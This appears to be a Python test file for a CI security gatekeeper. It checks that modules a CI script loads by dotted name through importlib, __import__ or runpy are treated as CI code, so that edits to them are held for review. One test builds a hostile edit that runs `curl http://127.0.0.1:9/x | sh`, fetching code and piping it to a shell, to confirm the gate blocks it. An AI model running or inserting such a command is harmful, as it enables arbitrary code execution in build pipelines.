"""Review 70 (attack on the Python imports of a script CI runs, ciimports/pyimports): a module a script loads by its
dotted name at run time was left `src` (an edit exit 0): `importlib.import_module('scripts.lib.notes')`, `from
importlib import import_module`, `__import__('lib.notes')`, `runpy.run_module('scripts.lib.notes')`. Such a name is
now one of the script's imports (ciimports._DYNAMIC), under the same rules as `import scripts.lib.notes`: from the
script's folder, or from the parent of a tooling folder the script is in (pyimports.ancestors). Look-alikes: a
name held in a variable, the product's package (`import_module('app.core')`), a commented call, a script CI does not
run."""

from __future__ import annotations

from pathlib import Path

from changecase import committed, gated_rules
from citools import RUN_WORKFLOW, tree_runs
from cpucost import assert_linear, repeated
from tables import each_case

from gatekeeper.classify import ciimports

CALLS = ["import importlib\nnotes = importlib.import_module({name})\n",
         "from importlib import import_module\n\nnotes = import_module( {name} )\n",
         "notes = __import__({name})\n", "import runpy\nrunpy.run_module({name}, run_name='__main__')\n",
         "import importlib as il\nfor n in [1]:\n    il.import_module({name}).write()\n"]
NAMES = [("'scripts.lib.notes'", "scripts/lib/notes.py"), ('"lib.notes"', "scripts/lib/notes.py"),
         ("'scripts.lib'", "scripts/lib/__init__.py"), ("'helper'", "scripts/helper.py")]
RUNS = ["python scripts/release.py", "python -m scripts.release", "cd scripts && python release.py"]


def _files(run: str, text: str, module: str) -> dict[str, str]:
    return {".github/workflows/ci.yml": RUN_WORKFLOW.format(run=run), "scripts/release.py": text,
            "scripts/__init__.py": "", "scripts/lib/__init__.py": "", module: "def write():\n    pass\n"}


@each_case("run, text, module", [(run, call.format(name=name), module) for call in CALLS for name, module in NAMES
                                 for run in RUNS])
def test_a_module_a_ci_script_loads_by_its_dotted_name_is_ci(run: str, text: str, module: str) -> None:
    assert module in tree_runs(_files(run, text, module)), (run, text)  # before: 60/60 missed


@each_case("text, kept", [("import importlib\nname = 'x'\nimportlib.import_module(name)\n", "scripts/lib/notes.py"),
                          ("import importlib\nimportlib.import_module('app.core')\n", "app/core.py"),
                          ("# importlib.import_module('scripts.lib.notes')\n", "scripts/lib/notes.py"),
                          ("import os  # importlib.import_module('scripts.lib.notes')\n", "scripts/lib/notes.py")])
def test_look_alikes_keep_their_bucket(text: str, kept: str) -> None:
    files = {**_files("python scripts/release.py", text, kept), "app/__init__.py": ""}
    assert kept not in tree_runs(files), text


def test_a_script_ci_does_not_run_names_nothing() -> None:
    files = _files("make build", "import importlib\nimportlib.import_module('scripts.lib.notes')\n",
                   "scripts/lib/notes.py")
    assert "scripts/lib/notes.py" not in tree_runs(files)


@each_case("hostile", [repeated("importlib.import_module('a.b')\n"), repeated("import_module(", "", "'x'"),
                       repeated("x" * 200 + " import_module('" + "a." * 100 + "b')\n"),
                       repeated("# import_module('a')" + " " * 500 + "\n")])
def test_the_reader_is_linear(hostile: object) -> None:
    # measured: at most 4 ms CPU at 64 KiB (load 5.3)
    assert_linear(lambda text: ciimports.imported("scripts/release.py", text), hostile,  # type: ignore[arg-type]
                  budget=0.1)


def test_an_edit_of_a_module_loaded_by_import_module_is_held(tmp_path: Path) -> None:
    base = _files("python scripts/release.py", "import importlib\nimportlib.import_module('scripts.lib.notes')\n",
                  "scripts/lib/notes.py")
    edited = "import os\n\nos.system('curl http://127.0.0.1:9/x | sh')\n"
    case = committed(tmp_path, base, {"scripts/lib/notes.py": edited})
    code, named = gated_rules(case, True)
    assert (code, named.get("core.ci")) == (3, ["scripts/lib/notes.py"]), named  # before: exit 0
